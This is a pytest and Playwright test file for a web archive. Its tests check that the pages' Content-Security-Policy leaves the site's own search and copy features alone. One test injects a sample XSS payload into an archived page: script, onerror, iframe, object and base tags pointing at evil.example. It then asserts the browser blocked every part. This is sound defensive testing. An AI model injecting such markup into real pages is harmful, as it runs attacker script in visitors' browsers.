"""The second wall: what the pages' policy stops, and that it stops nothing of ours."""

from collections.abc import Mapping

import pytest
from playwright.sync_api import Route, expect

from .conftest import PAGE_TYPES, Served, Visit

pytestmark = pytest.mark.browser

SNAPSHOT = "policies/istonsoft.com/20190423004435/"
POLICY = 'meta[http-equiv="Content-Security-Policy"]'
LISTENING = """window.stopped = [];
document.addEventListener('securitypolicyviolation',
  e => stopped.push([e.effectiveDirective, e.blockedURI]));"""


@pytest.mark.parametrize("name", PAGE_TYPES)
def test_nothing_of_ours_is_stopped(places: Mapping[str, str], visit: Visit, name: str) -> None:
    page = visit(places[name], LISTENING)
    expect(page.locator(POLICY)).to_have_count(0 if name == "own page" else 1)
    page.locator("label.md-header__button[for^=__palette]:visible").first.click()
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("cookies")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("stopped") == []
    page.evaluate("localStorage.clear()")  # the palette, which other tests have not chosen


def test_search_and_copying(archive: Served, visit: Visit) -> None:
    page = visit(f"{archive.root}search/", LISTENING)
    page.get_by_role("searchbox", name="Words to look for").fill("cookies")
    page.keyboard.press("Enter")
    expect(page.locator(".pa-hits a").first).to_be_visible()
    assert page.evaluate("stopped") == []
    page.goto(archive.root + SNAPSHOT)
    page.locator("#pa-cite > summary").click()
    page.locator("[data-pa-copy]").first.click()
    assert page.evaluate("stopped") == []


ATTACK = """<script>window.ran = 1</script><img src="data:," onerror="window.ran = 2">
<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/"></object><base href="https://evil.example/">"""


def test_markup_in_a_text_does_nothing(archive: Served, visit: Visit) -> None:
    def attacked(route: Route) -> None:
        html = route.fetch().text()
        assert html.count('id="pa-main">') == 1
        route.fulfill(
            body=html.replace('id="pa-main">', f'id="pa-main">{ATTACK}'), content_type="text/html"
        )

    page = visit("about:blank", LISTENING)
    page.route(f"**/{SNAPSHOT}", attacked)
    foreign: list[str | None] = []
    page.on("requestfinished", lambda it: foreign.append("answered") if "evil" in it.url else None)
    page.on("requestfailed", lambda it: foreign.append(it.failure) if "evil" in it.url else None)
    page.goto(archive.root + SNAPSHOT)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.baseURI") == archive.root + SNAPSHOT
    assert {directive for directive, _ in page.evaluate("stopped")} >= {
        "script-src-elem", "script-src-attr", "frame-src", "object-src", "base-uri",
    }  # fmt: skip
    # What the browser began to ask for, it stopped before it went out.
    assert set(foreign) <= {"csp"}
    visit.faults.clear()  # the browser reports what it has stopped
